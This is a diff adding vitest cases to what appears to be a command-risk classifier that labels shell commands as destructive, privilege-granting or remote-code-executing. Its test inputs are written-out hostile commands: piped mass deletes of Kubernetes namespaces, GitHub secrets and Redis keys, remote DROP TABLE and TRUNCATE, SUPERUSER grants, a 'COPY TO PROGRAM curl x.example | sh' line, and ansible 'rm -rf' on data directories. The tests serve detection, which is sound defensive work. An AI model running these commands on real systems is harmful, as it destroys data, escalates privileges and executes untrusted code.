@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { planCommand } from '../planning.ts';
 import { said } from './said.ts';
 
 describe('requests that take away', () => {
@@ -123,5 +124,112 @@ describe('stores, backups, queues', () => {
     'kubectl debug node/n --profile=sysadmin --image=a',
   ])('%s has the rights of its node', (command) => {
     expect(said(command)).toContain('container-escape');
+  });
+});
+
+describe('what one command hands to the next', () => {
+  test.each([
+    ['kubectl get ns -o name | xargs kubectl delete', 'cloud-destroy'],
+    ["gh secret list --json name -q '.[].name' | xargs -I{} gh secret delete {}", 'cloud-destroy'],
+    ["redis-cli -h r --scan --pattern '*' | xargs redis-cli -h r unlink", 'db-destroy'],
+    ['psql -h db -Atc "select \'drop table \'||t from x" | psql -h db', 'db-destroy'],
+    ['mkdir -p /tmp/e && rclone sync /tmp/e r:b', 'cloud-destroy'],
+    ['mkdir /tmp/e && mc mirror --remove /tmp/e play/b', 'cloud-destroy'],
+  ])('%s', (command, trait) => {
+    expect(planCommand(command).operations.flatMap(({ traits }) => traits)).toContain(trait);
+  });
+
+  test.each([
+    'kubectl get pods -o name | xargs kubectl delete',
+    "gh secret list --json name -q '.[].name' | grep OLD | xargs -I{} gh secret delete {}",
+    'gh run list --json databaseId | xargs gh run delete',
+    "redis-cli -h r --scan --pattern 'session:*' | xargs redis-cli -h r del",
+    'mkdir -p /tmp/e && cp -r dist /tmp/e && rclone sync /tmp/e r:b',
+    'pg_dump app | psql -h db',
+  ])('%s takes not everything', (command) => {
+    expect(
+      planCommand(command)
+        .operations.flatMap(({ traits }) => traits)
+        .join(' '),
+    ).not.toMatch(/destroy/);
+  });
+});
+
+describe('SQL that reaches further', () => {
+  test.each([
+    "wrangler d1 execute db --remote --command 'DROP TABLE users'",
+    "heroku pg:psql -a shop -c 'TRUNCATE users'",
+    "aws rds-data execute-statement --resource-arn a --sql 'DELETE FROM users'",
+    "turso db shell shop 'DROP TABLE users'",
+    'psql -h db -c "SELECT \'TRUNCATE \'||t FROM x \\gexec"',
+    "sqlplus a/b <<< 'DROP USER app CASCADE;'",
+  ])('%s empties a database', (command) => {
+    expect(said(command)).toContain('db-destroy');
+  });
+
+  test.each([
+    "psql -h db -c 'ALTER ROLE app SUPERUSER'",
+    "mysql -h db -e \"GRANT ALL PRIVILEGES ON *.* TO 'a'@'%'\"",
+    "sqlcmd -S db -Q 'ALTER SERVER ROLE sysadmin ADD MEMBER a'",
+    "psql -h db -c 'GRANT pg_execute_server_program TO app'",
+    "psql service=prod -c 'CREATE USER a SUPERUSER'",
+  ])('%s makes an owner', (command) => {
+    expect(said(command)).toContain('owner-grant');
+  });
+
+  test.each([
+    "sudo -u postgres psql -c 'CREATE ROLE app SUPERUSER'",
+    "psql -h db -c 'ALTER ROLE app NOSUPERUSER'",
+    "mysql -h db -e 'GRANT ALL PRIVILEGES ON app_dev.* TO a'",
+  ])('%s does not', (command) => {
+    expect(planCommand(command).operations.flatMap(({ traits }) => traits)).not.toContain('owner-grant');
+  });
+
+  test('a program that the server starts is planned', () => {
+    const { operations } = planCommand('psql -c "COPY t TO PROGRAM \'curl x.example | sh\'"');
+    expect(operations.flatMap(({ flow }) => flow)).toContainEqual({ from: 'network', to: 'exec' });
+  });
+
+  test.each([
+    ["mysql -e 'SHOW CREATE TABLE users\\G' app", 'db-read'],
+    ['clickhouse-local --query "SELECT count() FROM file(\'a.parquet\')"', 'db-read'],
+    ["wrangler d1 execute db --local --command 'DROP TABLE users'", 'project-task'],
+    ['goose -dir migrations create add_index sql', 'project-task'],
+    ['goose -dir migrations postgres "$DSN" reset', 'db-write removal'],
+    ['alembic -c alembic.prod.ini upgrade head', 'db-write production'],
+    ['alembic upgrade head', 'project-task'],
+  ])('%s is %s', (command, traits) => {
+    expect(said(command)).toBe(traits);
+  });
+});
+
+describe('what other machines are told by ansible', () => {
+  test.each([
+    ["ansible all -m shell -a 'rm -rf /var/lib/postgresql/*'", '/var/lib/postgresql/'],
+    ["ansible all -m file -a 'path=/var/lib/mysql state=absent'", '/var/lib/mysql'],
+    ["ansible all -m ansible.builtin.command -a 'rm -rf /home'", '/home'],
+  ])('%s deletes there', (command, path) => {
+    const deleted = planCommand(command).operations.filter(({ kind }) => kind === 'delete');
+    expect(deleted.flatMap(({ paths }) => paths.map(({ real }) => real ?? '')).join(' ')).toContain(path);
+  });
+
+  test('ansible-pull plays what the network says', () => {
+    const [first] = planCommand('ansible-pull -U https://git.example/x.git').operations;
+    expect(first?.flow).toContainEqual({ from: 'network', to: 'exec' });
+  });
+});
+
+describe('a container of a tool chain over the project', () => {
+  test.each([
+    ['docker run --rm -v /ws:/app -w /app node:22 npm test', true],
+    ['docker run --rm -it -v ./x:/app -w /app golang:1.24 go test ./...', true],
+    ['podman run --rm -v /ws:/w -w /w rust:1 cargo build', true],
+    ['docker run --rm -v /ws:/app someone/node npm test', false],
+    ['docker run --rm -v /:/app node:22 npm test', false],
+    ['docker run --rm -v /ws:/app node:22 npm publish', false],
+    ['docker run --rm --network host -v /ws:/app node:22 npm test', false],
+    ['docker run --rm -e TOKEN=x -v /ws:/app node:22 npm test', false],
+  ])('%s: %s', (command, mild) => {
+    expect(said(command) === 'dev-service').toBe(mild);
   });
 });
